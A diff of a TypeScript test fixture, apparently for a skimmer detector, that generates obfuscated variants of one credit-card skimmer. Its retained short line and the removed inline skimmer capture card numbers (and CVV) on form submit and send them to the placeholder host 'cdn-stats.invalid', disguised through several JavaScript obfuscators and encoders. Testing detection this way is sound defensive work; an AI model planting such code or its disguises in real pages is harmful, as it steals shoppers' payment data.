@@ -1,18 +1,12 @@
-// One card skimmer, disguised in the ways that skimmers are. Its address does not exist.
-import JavaScriptObfuscator from 'javascript-obfuscator'
+// One card skimmer, disguised in the ways that skimmers are.
 import JScrewIt from 'jscrewit'
-import { jsConfused, presets } from '../made-obfuscated.ts'
+import { jsConfused, obfuscated, presets } from '../made-obfuscated.ts'
 import { aaencode, jjencode } from '../symbol-encoders.ts'
+import { skimmer, skimmerHost } from './skimmer.ts'
 
 // It is a CommonJS module with the types of another kind.
 const { encode } = JScrewIt as unknown as typeof JScrewIt.default
 
-export const skimmerHost = 'cdn-stats.invalid'
-
-const skimmer = `document.addEventListener("submit", function () {
-  var taken = { n: document.querySelector("input[name=card-number]").value, c: document.querySelector("#cvv").value };
-  new Image().src = "https://${skimmerHost}/p.gif?d=" + btoa(JSON.stringify(taken));
-});`
 /** On one line and short, for encoders whose output is a thousand times as long. */
 const short = `document.onsubmit=function(){new Image().src="https://${skimmerHost}/?"+btoa(document.querySelector("#cardnumber").value)}`
 
@@ -42,9 +36,9 @@ d["addEvent" + "Listener"]("sub" + "mit", function () {
 
 type Disguise = [name: string, make: () => string | Promise<string>]
 
-const obfuscated = Object.entries(presets).map(([name, options]): Disguise => [
-  `javascript-obfuscator, ${name}`,
-  () => JavaScriptObfuscator.obfuscate(skimmer, { ...options, seed: 1 }).getObfuscatedCode(),
+const byObfuscator = presets.map((preset): Disguise => [
+  `javascript-obfuscator, ${preset}`,
+  () => obfuscated(`skimmer-${preset}`),
 ])
 const confused = (['low', 'medium', 'high'] as const).map((preset): Disguise => [
   `js-confuser, ${preset}`,
@@ -53,7 +47,7 @@ const confused = (['low', 'medium', 'high'] as const).map((preset): Disguise => 
 
 export const disguises: Disguise[] = [
   ['plain', () => skimmer],
-  ...obfuscated,
+  ...byObfuscator,
   ...confused,
   ['JSFuck', () => encode(short, { features: 'COMPACT', runAs: 'call' })],
   ['JSFuck through eval', () => encode(short, { features: 'BROWSER', runAs: 'eval' })],
